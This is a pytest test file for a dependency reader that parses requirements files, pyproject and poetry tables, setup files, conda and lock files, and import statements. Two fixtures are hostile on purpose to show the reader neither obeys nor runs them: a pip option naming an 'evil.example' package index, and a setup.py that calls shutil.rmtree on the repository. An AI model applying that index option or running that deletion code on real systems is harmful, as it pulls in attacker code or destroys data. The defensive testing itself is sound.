"""What a repository says it needs, and what its programs import."""

PROGRAM = {"train.py": "model.fit(1)\n"}


def specs(found, path):
    file = next(file for file in found.contract.dependencies if file.path == path)
    return [item.spec for item in file.requirements]


def test_requirements_keep_markers_lose_hashes_and_note_options(read):
    found = read(
        {
            **PROGRAM,
            "requirements.txt": """
                # comment
                numpy>=1.26 ; python_version < "3.13"  # why
                torch==2.0.0 \\
                    --hash=sha256:aaaa \\
                    --hash=sha256:bbbb
                -r more.txt
                --index-url https://evil.example/simple
                git+https://github.com/x/y.git#egg=y
                -e .
                !!! not a requirement
            """,
            "more.txt": "pandas\n",
        }
    )
    assert specs(found, "requirements.txt") == [
        'numpy>=1.26 ; python_version < "3.13"',
        "torch==2.0.0",
        "git+https://github.com/x/y.git#egg=y",
    ]
    file = found.contract.dependencies[0]
    assert file.options == ("-r more.txt", "--index-url https://evil.example/simple", "-e .")
    assert str(file.requirements[1].proof) == "requirements.txt:3"
    assert "recorded and never obeyed" in found.findings
    assert "'!!! not a requirement' is no requirement" in found.findings


def test_a_requirements_file_in_utf_16_is_read(read, repository):
    root = repository(PROGRAM)
    (root / "requirements.txt").write_bytes("numpy==1.26\n".encode("utf-16"))
    assert specs(read(PROGRAM), "requirements.txt") == ["numpy==1.26"]


def test_pyproject_is_read_in_the_standards_form_and_poetrys(read):
    found = read(
        {
            **PROGRAM,
            "pyproject.toml": (
                '[project]\nname = "x"\nrequires-python = ">=3.10"\ndependencies = [\n  "numpy>=1",\n  "torch",\n]\n'
            ),
            "sub/pyproject.toml": (
                "[tool.poetry.dependencies]\n"
                'python = "^3.9"\n'
                'pandas = "^1.2"\n'
                'typer = {version = "~0.4", extras = ["all"]}\n'
                'old = "*"\n'
            ),
        }
    )
    assert specs(found, "pyproject.toml") == ["numpy>=1", "torch"]
    assert specs(found, "sub/pyproject.toml") == ["pandas>=1.2,<2", "typer[all]>=0.4,<0.5", "old"]
    assert found.contract.python_requires == ">=3.10"


def test_setup_files_are_read_and_never_run(read, repository):
    root = repository({})
    found = read(
        {
            **PROGRAM,
            "setup.py": f"""
                import shutil
                shutil.rmtree({str(root)!r})
                REQUIRED = ["scipy>=1"]
                from setuptools import setup
                setup(name="x", install_requires=REQUIRED + ["numpy"], python_requires=">=3.8",
                      entry_points={{"console_scripts": ["x-train = x.cli:main"]}})
            """,
            "other/setup.cfg": "[options]\ninstall_requires =\n    attrs\n    click>=8\n",
        }
    )
    assert specs(found, "setup.py") == ["scipy>=1", "numpy"]
    assert specs(found, "other/setup.cfg") == ["attrs", "click>=8"]
    assert (root / "train.py").exists()


def test_conda_pipfile_and_locks_are_read(read):
    found = read(
        {
            **PROGRAM,
            "environment.yml": (
                "name: x\ndependencies:\n  - python=3.9\n  - pytorch::pytorch=1.9\n  - pip:\n    - timm==0.4\n"
            ),
            "Pipfile": '[packages]\nrequests = "*"\nnumpy = "==1.20"\n',
            "uv.lock": (
                "version = 1\n"
                "[[package]]\n"
                'name = "own"\n'
                'version = "0.1"\n'
                'source = { virtual = "." }\n'
                "[[package]]\n"
                'name = "numpy"\n'
                'version = "1.26.4"\n'
            ),
        }
    )
    assert specs(found, "environment.yml") == ["python=3.9", "pytorch::pytorch=1.9", "timm==0.4"]
    assert specs(found, "Pipfile") == ["requests", "numpy==1.20"]
    assert specs(found, "uv.lock") == ["numpy==1.26.4"]
    assert found.contract.python_requires == "==3.9.*"


def test_install_lines_of_readme_and_dockerfile_are_kept(read):
    found = read(
        {
            **PROGRAM,
            "README.md": "Install:\n\n```\npip install torch torchvision==0.15\npip install -r requirements.txt\n```\n",
            "Dockerfile": "FROM x\nRUN apt-get update && pip install tqdm\n",
        }
    )
    assert specs(found, "README.md") == ["torch", "torchvision==0.15"]
    assert specs(found, "Dockerfile") == ["tqdm"]


def imports(found, entry="train.py"):
    return {use.distribution: use.when for use in found.entry(entry).imports}


def test_imports_name_their_distributions_and_when_they_happen(read):
    found = read(
        """
        import os, json
        import cv2
        from PIL import Image
        import sklearn.linear_model
        import google.protobuf
        try:
            import apex
        except ImportError:
            apex = None
        def later():
            import wandb
        model.fit(1)
        """
    )
    assert imports(found) == {
        "opencv-python-headless": "module",
        "pillow": "module",
        "scikit-learn": "module",
        "protobuf": "module",
        "apex": "optional",
        "wandb": "lazy",
    }


def test_only_the_entrys_own_closure_counts(read):
    found = read(
        {
            "train.py": "from lib import net\nmodel.fit(1)\n",
            "lib/__init__.py": "",
            "lib/net.py": "import torch\n",
            "lib/unused.py": "import tensorflow\n",
            "evaluate.py": "import pandas\nprint(1)\n",
        }
    )
    assert imports(found) == {"torch": "module"}
    assert imports(found, "evaluate.py") == {"pandas": "module"}
